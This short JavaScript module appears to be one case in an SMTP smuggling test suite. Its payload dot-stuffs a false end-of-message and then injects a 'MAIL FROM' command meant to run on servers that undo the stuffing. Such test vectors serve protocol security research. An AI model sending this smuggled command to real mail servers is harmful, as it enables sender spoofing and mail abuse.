import { data } from '../attack.mjs';

/** Doubles the dots of a false end, so that a server which undoes them makes a true one. Source: RFC 5321 section 4.5.2. */
export default data({ sent: 1, content: () => 'Subject: x\r\n\r\na\r\n..\r\nMAIL FROM:<b@example.org>\r\n' });
